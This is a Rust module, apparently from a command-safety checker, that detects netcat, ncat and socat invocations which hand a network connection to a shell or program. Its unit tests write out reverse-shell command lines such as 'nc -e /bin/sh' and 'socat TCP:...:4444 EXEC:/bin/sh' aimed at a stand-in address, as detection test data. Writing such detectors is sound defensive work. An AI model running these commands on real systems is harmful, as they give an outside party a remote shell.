//! Relays that hand a connection to a program: `nc -e`, `ncat --sh-exec`, `socat ... EXEC:`.

use super::super::programs::base_name;

/// The program that a relay is told to hand its connection to.
pub(super) fn handed_to<'a>(name: &str, arguments: &'a [String]) -> Option<&'a str> {
    let arguments = arguments.get(1..)?;
    if base_name(name) == "socat" {
        let mut addresses = arguments
            .iter()
            .filter(|argument| !argument.starts_with('-'));
        let goes_far = arguments.iter().any(|argument| is_network(argument));
        return addresses.find_map(|address| {
            let (kind, program) = address.split_once(':')?;
            let runs = ["exec", "system", "shell"];
            let is_program = runs.iter().any(|run| kind.eq_ignore_ascii_case(run));
            (goes_far && is_program).then_some(program)
        });
    }
    let mut rest = arguments.iter();
    while let Some(argument) = rest.next() {
        match &**argument {
            "--exec" | "--sh-exec" | "--lua-exec" => return rest.next().map(|next| &**next),
            long if long.starts_with("--") => {
                let (option, program) = long.split_once('=').unwrap_or((long, ""));
                if matches!(option, "--exec" | "--sh-exec" | "--lua-exec") {
                    return Some(program);
                }
            }
            // Options of one letter may be written together; the last one takes what follows.
            short if short.starts_with('-') && short.ends_with(['e', 'c']) => {
                let next = rest.next()?;
                // OpenBSD's nc has a -c without a program; an address is none.
                if next.contains('/') || is_program_name(next) {
                    return Some(next);
                }
            }
            _ => {}
        }
    }
    None
}

fn is_network(address: &str) -> bool {
    let kind = address.split_once(':').map_or("", |(kind, _)| kind);
    let kind = kind.to_ascii_lowercase();
    [
        "tcp", "openssl", "ssl", "udp", "sctp", "dccp", "proxy", "socks",
    ]
    .iter()
    .any(|network| kind.starts_with(network))
}

fn is_program_name(word: &str) -> bool {
    let first = word.split_whitespace().next().unwrap_or_default();
    matches!(
        super::super::programs::class(first),
        Some(super::super::programs::Class::Shell | super::super::programs::Class::Interpreter)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn handed(line: &str) -> Option<String> {
        let arguments: Vec<String> = line.split(' ').map(str::to_owned).collect();
        handed_to(&arguments[0].clone(), &arguments).map(str::to_owned)
    }

    #[test]
    fn programs_that_are_handed_a_connection() {
        for (line, expected) in [
            ("nc -e /bin/sh 192.0.2.7 4444", Some("/bin/sh")),
            ("nc 192.0.2.7 4444 -nve /bin/bash", Some("/bin/bash")),
            ("ncat --sh-exec=id 192.0.2.7 4444", Some("id")),
            ("ncat 192.0.2.7 4444 -c bash", Some("bash")),
            (
                "socat TCP:192.0.2.7:4444 EXEC:/bin/sh,pty",
                Some("/bin/sh,pty"),
            ),
            ("socat -d OPENSSL:a:1,verify=0 system:sh", Some("sh")),
            // Without a program.
            ("nc -zv 192.0.2.7 443", None),
            ("nc -c 192.0.2.7 443", None),
            ("nc -lk 8080", None),
            ("socat - TCP4:localhost:8080", None),
            ("socat UNIX-LISTEN:/run/x EXEC:/usr/bin/helper", None),
            ("nc", None),
        ] {
            assert_eq!(handed(line).as_deref(), expected, "{line}");
        }
    }
}
